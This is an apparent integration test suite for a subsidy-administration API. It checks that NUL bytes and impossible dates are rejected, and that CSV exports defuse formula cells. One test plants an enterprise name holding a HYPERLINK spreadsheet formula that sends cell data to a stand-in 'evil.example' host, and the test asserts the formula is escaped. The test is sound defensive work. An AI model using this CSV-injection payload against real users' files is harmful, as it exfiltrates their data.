import { createBudgetPool, createEnterprise, createStaff, login, startTestSystem, TestSystem } from '@app/testing';
import request from 'supertest';
import { ApiModule } from '../../apps/api/src/api.module';

/** Issue 10, items 3 and 7: bad bytes and impossible dates stop at the edge; every CSV cell is defused. */
describe('edge validation and the CSV writer', () => {
  let sys: TestSystem;
  let server: Parameters<typeof request>[0];
  const api = () => request(server);

  beforeAll(async () => {
    sys = await startTestSystem({ label: 'edge-csv', modules: [ApiModule], consume: [], relay: false });
    server = sys.http.getHttpServer() as Parameters<typeof request>[0];
  });
  afterAll(async () => sys?.stop());

  it('answers a NUL character in a path, query or body, and an impossible date, with 400 naming the field', async () => {
    const admin = await login(server, (await createStaff(sys.dataSource, ['administrator'])).username);
    const e = await createEnterprise(sys.dataSource);
    const asE = await login(server, e.username);

    const path = await api().get('/api/v1/programs/rd-subsidy/versions/%00').set('Authorization', admin).expect(400);
    expect(path.body).toMatchObject({ error: 'validation', fields: [{ field: 'version' }], requestId: expect.any(String) });

    const date = await api().get('/api/v1/sla/summary?from=2026-02-31').set('Authorization', admin).expect(400);
    expect(date.body.fields).toEqual([expect.objectContaining({ field: 'from', message: expect.stringContaining('not a real date') })]);
    await api().get('/api/v1/sla/summary?from=2024-02-29').set('Authorization', admin).expect(200);

    const city = await login(server, (await createStaff(sys.dataSource, ['city_reviewer'])).username);
    const query = await api().get('/api/v1/tasks?program=a%00b').set('Authorization', city);
    expect(query.status).toBe(400);
    expect(query.body.fields.map((f: { field: string }) => f.field)).toContain('program');

    const created = await api().post('/api/v1/applications').set('Authorization', asE)
      .send({ program: 'innovation-voucher', year: 2024, facts: { serviceFeesFen: 3_000_000, relatedParty: false } }).expect(201);
    const body = await api().post(`/api/v1/applications/${created.body.id}/withdraw`).set('Authorization', asE)
      .set('Content-Type', 'application/json').send('{"version":1,"reason":"a\\u0000b"}').expect(400);
    expect(body.body.fields).toEqual([expect.objectContaining({ field: 'reason' })]);

    const nested = await api().post('/api/v1/calendar/overrides').set('Authorization', admin)
      .send({ date: '2026-02-30', kind: 'holiday', reason: '测试' }).expect(400);
    expect(nested.body.fields.map((f: { field: string }) => f.field)).toContain('date');

    const register = await api().post('/api/v1/enterprises/register')
      .send({ creditCode: '91350100MA2Y0000\u0000', name: 'x\u0000y', password: 'long-enough-password' }).expect(400);
    expect(register.body.fields.map((f: { field: string }) => f.field)).toEqual(expect.arrayContaining(['creditCode', 'name']));
  });

  it("writes an enterprise named =HYPERLINK(…) into the payment file as text, with a UTF-8 BOM, and so does the SLA export", async () => {
    const e = await createEnterprise(sys.dataSource);
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
    await sys.dataSource.query('UPDATE enterprises SET name = $2 WHERE id = $1', [e.enterpriseId, evil]);
    const [pv]: { id: string }[] = await sys.dataSource.query(
      `SELECT id FROM program_versions WHERE program_code = 'innovation-voucher' ORDER BY year_from DESC LIMIT 1`);
    const [app]: { id: string }[] = await sys.dataSource.query(
      `INSERT INTO applications (enterprise_id, program_code, program_version_id, year, status, facts, submitted_at, decided_at, amount_fen)
       VALUES ($1, 'innovation-voucher', $2, 2024, 'approved', '{}'::jsonb, now(), now(), 123456) RETURNING id`,
      [e.enterpriseId, pv.id]);
    await createBudgetPool(sys.dataSource, 'innovation-voucher', 2024, 10_000_000_00);
    const admin = await login(server, (await createStaff(sys.dataSource, ['administrator'])).username);
    const director = await login(server, (await createStaff(sys.dataSource, ['director'])).username);
    const batch = await api().post('/api/v1/disbursements/batches').set('Authorization', admin).send({ applicationIds: [app.id] }).expect(201);
    await api().post(`/api/v1/disbursements/batches/${batch.body.id}/approve`).set('Authorization', director).expect(200);
    const csv = await api().get(`/api/v1/disbursements/batches/${batch.body.id}/export.csv`).set('Authorization', admin)
      .buffer(true).parse((res, done) => { const chunks: Buffer[] = []; res.on('data', (c: Buffer) => chunks.push(c)); res.on('end', () => done(null, Buffer.concat(chunks))); })
      .expect(200);
    const bytes = csv.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    const [header, line] = text.split('\r\n');
    expect(header).toBe('instruction_id,credit_code,payee,amount_yuan,case_id');
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`);
    expect(line).toContain('1234.56');
    expect(line.split(',').some((cell) => /^"?[=+\-@]/.test(cell))).toBe(false);

    const sla = await api().get('/api/v1/sla/summary.csv').set('Authorization', admin).expect(200);
    expect(sla.text.charCodeAt(0)).toBe(0xfeff);
    expect(sla.text.slice(1).split('\r\n')[0]).toMatch(/^clock,from,to,onTimeRate/);
  });
});
